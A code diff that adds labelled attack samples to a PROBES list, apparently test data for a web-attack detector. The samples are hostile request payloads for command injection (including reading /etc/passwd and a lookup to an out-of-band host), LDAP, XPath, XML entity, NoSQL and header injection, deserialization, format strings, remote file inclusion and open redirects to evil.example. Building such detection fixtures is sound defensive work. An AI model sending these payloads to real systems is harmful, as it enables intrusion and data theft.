@@ -123,4 +123,61 @@ export const PROBES: readonly Probes[] = [
       /?u=gopher://127.0.0.1:6379/_INFO /?image=http://metadata.google.internal/computeMetadata/v1/ /?dest=dict://localhost:11211/stat
       /?next=file:///etc/hosts`),
   },
+  {
+    name: "short commands",
+    right: ["attack:command-injection"],
+    targets: words(`
+      /?host=;id /?host=a|id /?q=%60uname%60 /?q=$(id) /?x=%26%26%20whoami /?f={cat,/etc/passwd} /?f=cat$IFS/etc/passwd
+      /?ip=1%7Cnetstat%20-an /?ip=1;nslookup%20oast.example /?f=;/???/c?t%20/???/p?sswd`),
+  },
+  {
+    name: "directories",
+    right: ["attack:ldap-injection"],
+    targets: words(`
+      /login?user=*)(uid=*))(|(uid=* /login?user=admin)(|(password=*)) /?u=*)(%26 /?u=x)(cn=y`),
+  },
+  {
+    name: "XML documents and their paths",
+    right: ["attack:xpath-injection", "attack:xml-entity"],
+    targets: words(`
+      /?u=%27%20or%20count(//*)%3E0%20or%20%27a%27=%27b /?u=%27]%20%7C%20//*%20%7C%20//x[%27
+      /?u=x%27%20or%20position()=1%20or%20%27x%27=%27y /?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22http://203.0.113.5/%22%3E]%3E`),
+  },
+  {
+    name: "document stores",
+    right: ["attack:nosql-injection"],
+    targets: words(`
+      /login?user[$ne]=1&pass[$ne]=1 /?q={%22$gt%22:%22%22} /?q={%22password%22:{%22$ne%22:null}} /?u[$regex]=.* /?w[$where]=sleep(5)`),
+  },
+  {
+    name: "headers behind a line break",
+    right: ["attack:header-injection"],
+    targets: words(`
+      /?lang=en%0d%0aSet-Cookie:%20a=b /%0d%0aLocation:%20//evil.example /?to=a%0aBcc:%20x@evil.example
+      /?x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK`),
+  },
+  {
+    name: "objects",
+    right: ["attack:deserialization"],
+    targets: words(`
+      /?d=O:8:%22Example%22:1:{s:1:%22a%22;i:1;} /?d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
+      /?d={%22@type%22:%22com.example.A%22} /?d=AAEAAAD/////AQAAAAAAAAAM`),
+  },
+  {
+    name: "format strings",
+    right: ["attack:format-string"],
+    targets: words("/?q=%25n%25n%25n%25n /?q=%25s%25s%25s%25s /?q=AAAA%25p.%25p.%25p"),
+  },
+  {
+    name: "scripts of another host, and ways to one",
+    right: ["attack:file-inclusion", "attack:open-redirect"],
+    targets: words(`
+      /?page=http://evil.example/x.txt? /?inc=//evil.example/c99.txt /?page=ftp://evil.example/r.inc
+      /?next=//evil.example /?next=/\\evil.example /?url=/%09/evil.example`),
+  },
+  {
+    name: "GraphQL's schema",
+    right: ["attack:introspection"],
+    targets: words("/graphql?query={__schema{types{name}}} /graphql?query={__type(name:%22User%22){name}}"),
+  },
 ];
